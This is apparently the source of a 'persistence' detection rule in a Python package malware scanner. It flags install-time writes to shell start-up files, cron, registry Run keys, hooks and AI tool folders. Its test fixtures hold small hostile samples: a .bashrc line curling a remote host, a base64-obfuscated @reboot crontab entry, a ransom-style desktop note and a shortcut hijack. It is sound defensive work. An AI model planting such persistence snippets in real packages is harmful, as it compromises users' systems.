"""Persistence and system access: what outlives the process, or breaks the machine."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, Source
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Finding, Severity
from pratique.rules.claims import claim, command, when
from pratique.rules.rule import Example, Rule

_ID = "persistence"
_PLACE = re.compile(
    r"CurrentVersion[\\/]+Run|Start Menu[\\/]+Programs[\\/]+Startup|[\\/]Startup[\\/]|\.bashrc|\.bash_profile|\.zshrc|\.profile\b|"
    r"/etc/cron|/var/spool/cron|LaunchAgents|LaunchDaemons|/etc/systemd|systemd/user|autostart[\\/]|sitecustomize\.py|"
    r"fish[\\/]config\.fish|profile_default[\\/]startup|\.git[\\/]hooks|/etc/ld\.so\.preload|/etc/sudoers|"
    r"(site-?packages|purelib|platlib)[^\n]{0,200}\.pth$|usercustomize\.py|authorized_keys|/etc/rc\.local|/etc/profile|/etc/hosts$|\.cursor[\\/]|\.claude[\\/]|\.vscode[\\/]tasks"
)


_EVERYTHING = re.compile(
    r"(~|/|[A-Za-z]:|<pathlib\.Path(\(\))?\.home\(\)>|<\$(HOME|USERPROFILE|HOMEPATH)>)[/\\*.]{0,4}"
)
"""The home folder or the root, and nothing behind it."""
_OTHERS = re.compile(
    r"^<[A-Za-z_][\w.]*(\(\))?\.(__file__|origin|__path__)>|(site-?packages|purelib|platlib)[^\n]{0,200}\.py$"
)
"""Where another package's code lies."""
_WALKS = frozenset({"os.walk", "os.scandir", "pathlib.Path().rglob", "glob.glob", "glob.iglob"})
_OWN_FOLDER = ".git"
"""A hook of the project's own repository: bad manners, but no proof."""
_SHORTCUT = re.compile(r"\.CreateShort[cC]ut\(\)\.Save$")
_DESKTOP = re.compile(r"(?:^|[/\\>])Desktop[/\\][^/\\<>]{1,80}$")
"""Where a person finds what nobody asked for: notes of ransom, shortcuts that lead elsewhere."""
_SERVICES = frozenset({"systemd unit", "service", "launch agent"})
"""A command that enables one of these does not show whose program it is."""


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for file in facts.python:
        own = [c for c in file.calls if c.phase.automatic]  # programs install themselves when the user asks for it
        sets = any("SetValue" in c.name for c in own)
        walks = {c.function for c in own if c.name in _WALKS and _EVERYTHING.fullmatch(_first(c))}
        for call in own:
            if call.does & {Does.WRITE, Does.REGISTRY} and (place := _place(call)):
                proven = not place.startswith(_OWN_FOLDER) if Does.WRITE in call.does else sets
                message = f"writes to {place}, which runs again later, {when(call.phase)}"
                yield _finding(file.path, call, message, proven=proven)
            elif Does.WRITE in call.does and (target := call.arguments.get("path")) and _OTHERS.search(target.text):
                yield _finding(
                    file.path,
                    call,
                    f"changes a package that is not its own {when(call.phase)}",
                    proven=bool(call.taints(Source.NETWORK)),
                )
            elif call.does & {Does.DELETE, Does.WRITE} and call.function in walks and "<" in _target(call):
                what = "deletes" if Does.DELETE in call.does else "overwrites"
                message = f"{what} what it finds in all of the user's folders {when(call.phase)}"
                yield _finding(file.path, call, message, proven=False)
            elif Does.WRITE in call.does and (_SHORTCUT.search(call.name) or _DESKTOP.search(_target(call))):
                message = f"puts something on the user's desktop, or changes what a shortcut starts, {when(call.phase)}"
                yield _finding(file.path, call, message, proven=False)
            elif Does.DELETE in call.does and _EVERYTHING.fullmatch(_first(call)):
                yield _finding(file.path, call, f"deletes everything of the user {when(call.phase)}", proven=True)
            elif Does.RUN_PROCESS in call.does:
                shell = read_shell(command(call))
                for what in (*shell.destroys, *shell.disarms, *shell.persists)[:1]:
                    message = f"a command changes the system ({what}) {when(call.phase)}"
                    yield _finding(file.path, call, message, proven=what not in _SERVICES)


def _target(call: Call) -> str:
    target = call.arguments.get("path")
    return target.text if target else _first(call)


def _first(call: Call) -> str:
    argument = call.arguments.get("0") or call.arguments.get("path")
    return argument.text if argument else ""


def _place(call: Call) -> str:
    keys = ("path", "1", "0") if Does.REGISTRY not in call.does else ("1", "0", "2", "4")
    for key in keys:
        argument = call.arguments.get(key)
        match = _PLACE.search(argument.text) if argument and (key != "0" or Does.REGISTRY in call.does) else None
        if match:
            return match[0]
    return ""


def _finding(path: str, call: Call, message: str, *, proven: bool) -> Finding:
    return claim(
        _ID,
        Behaviour.PERSISTENCE,
        path,
        call,
        message,
        severity=Severity.CRITICAL,
        proven=proven,
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.PERSISTENCE,
    summary="Something is put where it runs again, or protection is switched off.",
    gain="The malware stays when the package is removed.",
    honest="Programs that install themselves as a service do so when the user asks for it.",
    blocks="When it happens by itself, while the package is installed, whenever Python starts, or when it is imported: a file or "
    "registry value that runs later is written, a task is scheduled, protection is switched off, everything is deleted.",
    check=_check,
    loud=(
        Example(
            title="a line in the shell's start-up file",
            files={
                "setup.py": "import os as o\nwith open(o.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl http://192.0.2.1/x\\n')\n"
            },
        ),
        Example(
            title="a cron table, through getattr and base64",
            files={
                "pkg/__init__.py": "import base64, os\n"
                "getattr(os, 'sys' + 'tem')(base64.b64decode('KGNyb250YWIgLWw7IGVjaG8gIkByZWJvb3QgL3RtcC94IikgfCBjcm9udGFiIC0=').decode())\n"
            },
        ),
        Example(
            title="a note on the desktop, when installed",
            files={
                "setup.py": "import os as o\nopen(o.path.expanduser('~/Desktop/read_me.txt'), 'w').write('pay')\n",
            },
        ),
        Example(
            title="what the user's shortcuts start, when installed",
            files={
                "setup.py": "import os\nfrom win32com.client import Dispatch as D\nfor r, d, f in os.walk('C:/'):\n"
                "    for n in f:\n        s = D('WScript.Shell').CreateShortcut(r + n)\n        s.Arguments = '--load-extension=a'\n        s.Save()\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="completion that the user asks for",
            files={
                "pkg/__init__.py": "import os\ndef install_completion():\n"
                "    open(os.path.expanduser('~/.bashrc'), 'a').write('source ~/.pkg\\n')\n"
            },
        ),
    ),
)
